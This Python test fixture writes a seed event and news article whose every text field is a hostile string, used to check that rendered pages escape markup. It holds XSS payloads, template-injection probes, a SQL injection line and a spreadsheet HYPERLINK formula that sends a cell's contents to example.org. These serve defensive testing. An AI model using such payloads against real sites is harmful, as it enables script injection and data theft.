"""A seed whose every text is hostile: markup, script, template syntax, endless words, all scripts.

The texts are such as a seed may hold; what it may not hold is refused on reading. Each text holds
a mark of its own, so that a page can be searched for it; a script in it would set a global of
that name.
"""

from __future__ import annotations

import itertools
import json
from dataclasses import dataclass, field
from pathlib import Path

ARTICLE = f"{'hostile-' * 9}event/2020-03-11-{'long' * 15}"
PRODUCT = str(7919 * 7927)
"""What a template engine would make of the arithmetic in the texts."""

# MARK stands for the text's own mark, RUN for a script that sets a global of that name.
_MARKUP = (
    "<script>RUN</script>",
    '<img src=x onerror="RUN">',
    "<svg onload=RUN><circle r=9></svg>",
    '" onmouseover="RUN" autofocus onfocus="RUN" style="position:fixed;inset:0" x="',
    "' onmouseover='RUN' autofocus onfocus='RUN' x='",
    "</style><script>RUN</script><style>*{display:none}",
    "</script></title></textarea></xmp></noscript><script>RUN</script>",
    "<!-- --><script>RUN</script><!-- ]]><script>RUN</script>--!><img src=x onerror=RUN>",
    "<a href=javascript:RUN>here</a> <a href='data:text/html,<script>RUN</script>'>there</a>",
    "<iframe srcdoc='<script>parent.MARK=1</script>'></iframe><object data=x></object><embed>",
    "<base href=//example.org/><meta http-equiv=refresh content=0><link rel=stylesheet href=MARK>",
    "<form action=//example.org/><input autofocus onfocus=RUN><button formaction=x>x</button>",
    "</td></tr></table></div></main><plaintext>MARK",
    "</text></svg></figure><script>RUN</script><math><mi//xlink:href='javascript:RUN'>",
    "&lt;script&gt;RUN&lt;/script&gt; &#60;img src=x onerror=RUN&#x3e; &amp;amp; &quot; &nbsp",
    "%3Cscript%3ERUN%3C/script%3E %0a%0d \\x3cscript\\x3e \\u003cimg\\u003e \\0 \\n",
)
_SYNTAX = (
    "[here](javascript:RUN) ![x](x) <javascript:RUN> # *a* _b_ `c` ~~~ | d | ---",
    "`<b>` ```` ``` ```` <details open ontoggle=RUN>",
    "{{ 7919*7927 }} {% for x in (1, 2) %}{{ x }}{% endfor %} {# MARK #} ${7919*7927}",
    "{{ cycler.__init__.__globals__ }} {%- include 'page.html.j2' -%} MARK",
    "<%= 7919*7927 %> #{7919*7927} @(7919*7927) MARK",
    "$x^2$ $\\frac{1}{0$ $$\\unknown{$$ \\(x\\) \\[y\\] $ MARK",
    "\\href{javascript:RUN}{x} \\input{a} \\begin{a} %~#&_^",
    "{0} {x!r} {MARK} %s %(x)s %n %% {{}} }{ $x ${x} #{x}",
    '=HYPERLINK("https://example.org/?"&A1,"MARK") +1 -1 @SUM(1)',
    "x} body{display:none} @import url(//example.org/); /* expression(RUN) */ url(javascript:RUN)",
    "C:\\a\\b ..\\..\\ ../../.. file:///a \\\\host\\share MARK",
    "'; DROP TABLE figures; -- \" OR 1=1 MARK",
)
_SCRIPTS = (
    "شہر میں ہلاک ہونے والے افراد، ۱۲۳ MARK کل ۴۵",
    "שלום עולם (12–15) MARK עברית",
    "Широкая электрификация, ёж MARK",
    "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️ 👍🏽 MARK",
    "".join(f"{letter}\u0306\u0301\u0302\u0331" for letter in "marked") + " MARK",
    "می\u200cخواهم क्\u200dष abcd MARK",
    "中文字沒有空格所以一行一直走下去不會停" * 6 + "MARK",
    "\ufdfd \u0bf5 ꧅ ﷺ MARK",
)
_LONGEST = 500
_WORST = (
    "</title></style></script>\"'><svg/onload=RUN>{{ 7919*7927 }} $x^2$ شہر " + "w" * 90,
    '"><img/src=x/onerror=RUN>' + "W" * _LONGEST,
    _SCRIPTS[0],
)
_OTHERS = [
    kind
    for kinds in itertools.zip_longest(_MARKUP, _SYNTAX, _SCRIPTS[1:])
    for kind in kinds
    if kind is not None
]

# Every character that a link may hold, and what a browser would rather follow.
URL = (
    "https://example.org/!#$%&()*+,-./:;=?@[]_~0aA%0a%0d%3Cscript%3E&lt;&quot;&amp;"
    "//javascript:window.mark_of_the_link=1//خبر/👍🏽/..//"
)


@dataclass
class Pen:
    """Hands out the next hostile text, and keeps where each was written."""

    texts: dict[str, str] = field(default_factory=dict)
    """Where in the seed → the text."""
    _worst: dict[str, int] = field(default_factory=dict)
    _others: int = 0

    def write(self, at: str, kind: str) -> str:
        """The text for one place; each kind of field gets the worst texts first."""
        used = self._worst.get(kind, 0)
        self._worst[kind] = used + 1
        if used < len(_WORST):
            text = _WORST[used]
        else:
            text = _OTHERS[self._others % len(_OTHERS)]
            self._others += 1
        mark = f"mark_{len(self.texts) + 1}_"
        text = text.replace("RUN", f"window.{mark}=1").replace("MARK", mark)[:_LONGEST]
        self.texts[at] = text
        return text


def write_seed(seeds: Path) -> dict[str, str]:
    """Write the event and its article below `seeds`; where in them → each text."""
    pen = Pen()
    event, _, article = ARTICLE.partition("/")
    folder = seeds / event
    folder.mkdir(parents=True)
    for name, content in (("event", _event(pen)), (article, _article(pen))):
        # JSON is YAML.
        text = json.dumps(content, ensure_ascii=False, indent=1)
        (folder / f"{name}.yaml").write_text(text, "utf-8")
    assert pen._others >= len(_OTHERS), "the seed has too few texts for all kinds"
    return pen.texts


# --- the event --------------------------------------------------------------------------------

_GROUPS: dict[str, dict[str, object]] = {
    "people": {"parts": ["constructor", "fighters"]},
    "constructor": {"parts": ["staff", "residents"]},
    "staff": {},
    "residents": {},
    "fighters": {},
    "drivers": {"part_of": "staff"},
    "guards": {"part_of": "staff"},
}
_PLACES: dict[str, dict[str, object]] = {
    "county": {"latitude": 27.7, "longitude": 65.7},
    "city": {"latitude": 30.1, "longitude": 67.0, "part_of": "county"},
    "town": {"latitude": 29.5, "longitude": 66.0, "part_of": "county"},
    "port": {"latitude": 25.2, "longitude": 63.4, "part_of": "county"},
    "hamlet": {"latitude": 29.51, "longitude": 66.01, "part_of": "county"},
    "prototype": {"part_of": "city"},
}
_SPEAKERS = {"office": "official", "witness": "witness", "party": "party", "army": "party"}
_PERIODS: dict[str, dict[str, object]] = {
    "since-saturday": {"start": "2020-03-07T04"},
    "weekend": {"start": "2020-03-07", "end": "2020-03-08", "precision": "weekend"},
    "first-hour": {"start": "2020-03-07T04", "end": "2020-03-07T04"},
    "standoff": {"start": "2020-03-07", "end": "2020-03-09"},
    "late-monday": {"start": "2020-03-09", "end": "2020-03-09", "precision": "part-of-day"},
    "tuesday": {"start": "2020-03-10", "end": "2020-03-10"},
    "wednesday": {"start": "2020-03-11", "end": "2020-03-11"},
}


def _event(pen: Pen) -> dict[str, object]:
    def fill(section: str, entries: dict[str, dict[str, object]], *keys: str) -> dict[str, object]:
        return {
            name: {**{k: pen.write(f"{section}.{name}.{k}", f"{section}.{k}") for k in keys}, **own}
            for name, own in entries.items()
        }

    places = fill("places", _PLACES, "name", "kind")
    sources = fill("places", {n: {} for n in _PLACES if "latitude" in _PLACES[n]}, _FROM)
    return {
        "name": pen.write("event.name", "single"),
        "timezone": "Etc/UTC",
        "groups": fill("groups", _GROUPS, "label"),
        "places": {name: {**place, **sources.get(name, {})} for name, place in places.items()},
        "speakers": fill("speakers", {n: {"kind": k} for n, k in _SPEAKERS.items()}, "name"),
        "periods": fill("periods", _PERIODS, "label"),
    }


_FROM = "coordinates_from"

# --- the article ------------------------------------------------------------------------------

# id: wording, measure, unit, group, place, period, speaker, status
_FIGURES = {
    "all-killed": "30 deaths persons people county since-saturday outlet stated",
    "all-killed-too": "at_least_28 deaths persons people county since-saturday office attributed",
    "staff-killed": "more_than_12 deaths persons staff county since-saturday outlet stated",
    "residents-killed": "20 deaths persons residents county since-saturday outlet stated",
    "fighters-killed": "90 deaths persons fighters county since-saturday outlet stated",
    "drivers-killed": "seven deaths persons drivers town standoff office attributed",
    "on-error": "150 deaths persons guards county since-saturday party claimed",
    "fighters-claimed": "up_to_400 deaths persons fighters county since-saturday army claimed",
    "injured": "several injuries persons residents port since-saturday witness attributed",
    "fighters": "dozens fighters persons fighters county weekend witness attributed",
    "population": "around_5,000 population persons - town - outlet stated",
    "standoff-length": "three-day duration days - town standoff outlet stated",
    "distance": "within_one_kilometer distance km - prototype since-saturday outlet stated",
    "clash-sites": "over_a_dozen clash-sites sites - county since-saturday outlet stated",
    "bombed": "city+hamlet bombing-sites sites - county weekend office attributed",
    "raided": "11 raid-sites sites - county weekend office attributed",
    "seized": "at_least_six seized-sites offices - county since-saturday outlet stated",
    "a" * 80: "22_to_25 detentions persons residents city weekend office attributed",
    "detained-too": "24 detentions persons residents city weekend witness attributed",
    "detained-of-them": "up_to_40 detentions persons staff city weekend party claimed",
    "first-hour": "4_a.m._on_Saturday time hour-of-day - county first-hour office attributed",
    "weekend": "over_the_weekend time date - county weekend office attributed",
    "late-monday": "late_Monday time date - town late-monday witness attributed",
    "tuesday": "Tuesday time date - city tuesday party claimed",
    "wednesday": "Wednesday time date - county wednesday outlet stated",
}
_RELATIONS: dict[str, dict[str, object]] = {
    "bombed-and-raided": {
        "kind": "sum",
        "parts": ["bombed", "raided"],
        "whole": {"measure": "attack-sites", "place": "county", "period": "weekend"},
    },
    "same-detained": {"kind": "same", "parts": ["detained-too"], "whole": "a" * 80},
    "injured-at-most": {"kind": "at-most", "parts": ["injured"], "whole": "population"},
    "drivers-among-all": {"kind": "part", "parts": ["drivers-killed"], "whole": "all-killed"},
}
_ASSUMPTIONS = {
    "toll-without-fighters": ("all-killed", {"group": "constructor"}),
    "clashes-were-attacks": ("clash-sites", {"measure": "attack-sites", "period": "weekend"}),
    "in-the-city": ("seized", {"place": "city"}),
    "in-the-week": ("injured", {"period": "standoff"}),
}


def _article(pen: Pen) -> dict[str, object]:
    return {
        "source": {
            "outlet": pen.write("source.outlet", "single"),
            "url": URL,
            "published": "2020-03-11",
            "paragraphs": len(_FIGURES),
            "note": pen.write("source.note", "single"),
        },
        "figures": [
            _figure(pen, name, line, number)
            for number, (name, line) in enumerate(_FIGURES.items(), 1)
        ],
        "relations": [
            {"id": name, **own, "paragraph": 1, "says": pen.write(f"relations.{name}.says", "ties")}
            for name, own in _RELATIONS.items()
        ],
        "assumptions": [
            {
                "id": name,
                "figure": figure,
                "reads": reads,
                "because": pen.write(f"assumptions.{name}.because", "because"),
            }
            for name, (figure, reads) in _ASSUMPTIONS.items()
        ],
    }


def _figure(pen: Pen, name: str, line: str, paragraph: int) -> dict[str, object]:
    wording, *rest = line.split()
    keys = ("measure", "unit", "group", "place", "period", "speaker", "status")
    own: dict[str, object] = {k: v for k, v in zip(keys, rest, strict=True) if v != "-"}
    said = (
        {"named": wording.split("+")} if "+" in wording else {"wording": wording.replace("_", " ")}
    )
    readings = {"readings": ["20", "more than 20"]} if name == "residents-killed" else {}
    return {
        "id": name,
        **said,
        **readings,
        **own,
        "paragraph": paragraph,
        "says": pen.write(f"figures.{name}.says", "figures.says"),
        "note": pen.write(f"figures.{name}.note", "figures.note"),
    }
